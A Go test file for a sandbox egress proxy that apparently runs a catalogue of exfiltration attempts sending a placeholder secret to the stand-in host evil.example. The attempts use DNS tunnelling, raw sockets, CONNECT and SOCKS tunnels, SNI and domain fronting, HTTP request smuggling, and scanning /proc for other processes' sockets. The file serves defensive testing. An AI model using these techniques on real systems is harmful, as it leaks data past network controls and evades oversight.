package egress

import (
	"bufio"
	"context"
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"slices"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

// Names of the attacks' world: the listed registry, the attacker's server, and names that lead into the machine.
const (
	registry = "registry.npmjs.org"
	evil     = "evil.example"
	rebound  = "nodejs.org"      // listed, and leads to this machine
	metadata = yarnRegistry      // listed, and leads to a cloud's metadata during the attacks
	proxy    = "127.0.0.1:19181" // of the sandbox
	secret   = "c2VjcmV0LWtleS1vZi1hLXBlcnNvbg"
)

// attacks are ways to send a secret out of a trial that may fetch from the registry.
var attacks = map[string]func(){
	"address":                 func() { send("tcp", "151.101.9.9:443") },
	"address and port":        func() { send("tcp", "151.101.9.9:8080") },
	"IPv6":                    func() { send("tcp", "[2606:4700::9]:443") },
	"mapped address":          func() { send("tcp6", "[::ffff:151.101.9.9]:80") },
	"address of the registry": func() { send("tcp", "151.101.0.3:443") },
	"name server":             func() { send("udp", nameServer+":53"); send("tcp", nameServer+":53") },
	"DNS over TLS":            func() { send("tcp", "1.1.1.1:853") },
	"QUIC":                    func() { send("udp", "151.101.0.3:443"); send("udp", "151.101.9.9:443") },
	"time server":             func() { send("udp", "151.101.9.9:123") },
	"machine":                 func() { send("tcp", "127.0.0.1:8080"); send("tcp", "[::1]:8080") },
	"address of nobody":       func() { send("tcp", "198.18.200.200:443") },
	"raw sockets":             rawSockets,
	"inherited files":         inheritedFiles,
	"DNS tunnel":              tunnelNames,
	"unset variables":         func() { _, _ = fetch(evil, "GET", "/"+secret, "", nil) },
	"name and no proxy":       func() { send("tcp", evil+":443"); send("tcp", evil+":22") },
	"rebinding":               func() { send("tcp", rebound+":443"); send("tcp", rebound+":80") },
	"metadata":                func() { send("tcp", metadata+":443"); connect(metadata+":80", "GET / HTTP/1.1\r\n\r\n") },
	"other port":              func() { send("tcp", registry+":22"); connect(registry+":22", secret) },
	"tunnel":                  func() { connect(evil+":443", secret) },
	"tunnel to address":       func() { connect("151.101.9.9:443", secret) },
	"tunnel to a number":      func() { connect("2540046601:443", secret); connect("0x97650909:443", secret) },
	"credentials":             func() { connect(evil+":443\r\nProxy-Authorization: Basic "+secret, secret) },
	"user in the name":        func() { connect(registry+"@"+evil+":443", secret); connect(evil+":443#"+registry+":443", secret) },
	"SOCKS":                   func() { say("\x05\x01\x00\x05\x01\x00\x03\x0c" + evil + "\x01\xbb" + secret) },
	"SOCKS to address":        func() { say("\x05\x01\x00\x05\x01\x00\x01\x97\x65\x09\x09\x01\xbb" + secret) },
	"plain request": func() {
		say("POST http://" + evil + "/ HTTP/1.1\r\nHost: " + registry + "\r\nContent-Length: 3\r\n\r\nkey")
	},
	"no TLS": func() {
		connect(registry+":443", "PUT / HTTP/1.1\r\nHost: "+registry+"\r\nContent-Length: 3\r\n\r\nkey")
	},
	"other protocol":       func() { connect(registry+":443", "SSH-2.0-"+secret+"\r\n") },
	"other server name":    func() { _, _ = fetch(registry, "GET", "/", evil, nil) },
	"no server name":       func() { _, _ = fetch(registry, "GET", "/", "-", nil) },
	"fronting":             func() { request("GET / HTTP/1.1\r\nHost: " + evil + "\r\n\r\n") },
	"fronting by a line":   func() { request("GET http://" + evil + "/ HTTP/1.1\r\nHost: " + registry + "\r\n\r\n") },
	"two hosts":            func() { request("GET / HTTP/1.1\r\nHost: " + registry + "\r\nHost: " + evil + "\r\n\r\n") },
	"publish":              func() { _, _ = fetch(registry, "PUT", "/"+attacker, "", strings.NewReader(secret)) },
	"post":                 func() { _, _ = fetch(registry, "POST", "/-/v1/login", "", strings.NewReader(secret)) },
	"fetch with a body":    func() { _, _ = fetch(registry, "GET", "/", "", strings.NewReader(secret)) },
	"method in lower case": func() { request("put / HTTP/1.1\r\nHost: " + registry + "\r\nContent-Length: 3\r\n\r\nkey") },
	"smuggling": func() {
		request("GET / HTTP/1.1\r\nHost: " + registry + "\r\nContent-Length: 0\r\nTransfer-Encoding: chunked\r\n\r\n" +
			"0\r\n\r\nPUT /x HTTP/1.1\r\nHost: " + registry + "\r\nContent-Length: 3\r\n\r\nkey")
	},
	"pipeline": func() {
		request("GET / HTTP/1.1\r\nHost: " + registry + "\r\n\r\nPUT /x HTTP/1.1\r\nHost: " + registry +
			"\r\nContent-Length: 3\r\n\r\nkey")
	},
	"upgrade": func() {
		request("GET / HTTP/1.1\r\nHost: " + registry + "\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n" + secret)
	},
	"redirect": func() {
		answer, err := fetch(registry, "GET", "/redirect", "", nil)
		if err != nil || answer.Header.Get("Location") == "" {
			fmt.Println("no redirect to follow:", err)
			return
		}
		_, _ = fetch(evil, "GET", "/redirected/"+secret, "", nil)
		connect(evil+":443", secret)
	},
}

// attack runs one of the attacks, in a trial.
func attack(name string) {
	if do := attacks[name]; do != nil {
		do()
	} else {
		keyAttacks[name]()
	}
	fmt.Println("attacked")
}

const patience = 3 * time.Second

// send sends the secret to an address.
func send(network, address string) {
	conn, err := net.DialTimeout(network, address, patience)
	if err != nil {
		return
	}
	defer conn.Close()
	_ = conn.SetDeadline(time.Now().Add(patience))
	_, _ = io.WriteString(conn, "GET /"+secret+" HTTP/1.1\r\nHost: "+evil+"\r\n\r\n")
	_, _ = conn.Read(make([]byte, 100))
}

// say sends bytes to the proxy, and waits for its answer.
func say(text string) {
	conn, err := net.DialTimeout("tcp", proxy, patience)
	if err != nil {
		fmt.Println(err)
		return
	}
	defer conn.Close()
	_ = conn.SetDeadline(time.Now().Add(patience))
	_, _ = io.WriteString(conn, text)
	_, _ = io.Copy(io.Discard, conn)
}

// connect asks the proxy for a tunnel, and sends bytes through it.
func connect(to, text string) { say("CONNECT " + to + " HTTP/1.1\r\n\r\n" + text) }

// request sends the text of requests to the registry after a regular handshake.
func request(text string) {
	conn, err := tls.DialWithDialer(&net.Dialer{Timeout: patience}, "tcp", registry+":443",
		&tls.Config{InsecureSkipVerify: true, ServerName: registry})
	if err != nil {
		return
	}
	defer conn.Close()
	_ = conn.SetDeadline(time.Now().Add(patience))
	_, _ = io.WriteString(conn, text)
	_, _ = io.Copy(io.Discard, bufio.NewReader(conn))
}

// fetch sends a request over TLS, under another server name if one is given, or without any for "-".
func fetch(host, method, path, serverName string, body io.Reader) (*http.Response, error) {
	ctx, cancel := context.WithTimeout(context.Background(), patience)
	defer cancel()
	r, err := http.NewRequestWithContext(ctx, method, "https://"+host+path, body)
	if err != nil {
		return nil, err
	}
	settings := &tls.Config{InsecureSkipVerify: true, ServerName: serverName}
	transport := &http.Transport{TLSClientConfig: settings}
	if serverName == "-" {
		transport.DialTLSContext = func(ctx context.Context, network, address string) (net.Conn, error) {
			conn, err := new(net.Dialer).DialContext(ctx, network, address)
			if err != nil {
				return nil, err
			}
			return tls.Client(conn, &tls.Config{InsecureSkipVerify: true}), nil
		}
	}
	answer, err := transport.RoundTrip(r)
	if err == nil {
		answer.Body.Close()
	}
	return answer, err
}

func tunnelNames() {
	for i := range 20 {
		ctx, cancel := context.WithTimeout(context.Background(), patience)
		_, _ = net.DefaultResolver.LookupHost(ctx, fmt.Sprintf("%s%d.%s", secret, i, evil))
		_, _ = net.DefaultResolver.LookupTXT(ctx, fmt.Sprintf("%s%d.%s", secret, i, registry))
		cancel()
	}
}

func rawSockets() {
	for _, kind := range []int{unix.SOCK_RAW, unix.SOCK_DGRAM} {
		for _, protocol := range []int{unix.IPPROTO_ICMP, unix.IPPROTO_RAW, unix.IPPROTO_UDP} {
			if fd, err := unix.Socket(unix.AF_INET, kind, protocol); err == nil {
				_ = unix.Sendto(fd, []byte(secret), 0, &unix.SockaddrInet4{Addr: [4]byte{151, 101, 9, 9}, Port: 443})
				_ = unix.Close(fd)
			}
		}
	}
}

// inheritedFiles looks for a socket of umpire's.
func inheritedFiles() {
	entries, _ := os.ReadDir("/proc/self/fd")
	for _, e := range entries {
		target, _ := os.Readlink("/proc/self/fd/" + e.Name())
		if strings.HasPrefix(target, "socket:") {
			fmt.Println("inherited", target)
		}
	}
	own := os.Getpid()
	processes, _ := os.ReadDir("/proc")
	for _, p := range processes {
		if p.Name() != fmt.Sprint(own) && !slices.Contains([]string{"self", "thread-self"}, p.Name()) {
			if files, err := os.ReadDir("/proc/" + p.Name() + "/fd"); err == nil {
				for _, f := range files {
					if target, _ := os.Readlink("/proc/" + p.Name() + "/fd/" + f.Name()); strings.HasPrefix(target, "socket:") {
						fmt.Println("another's", target)
					}
				}
			}
		}
	}
}
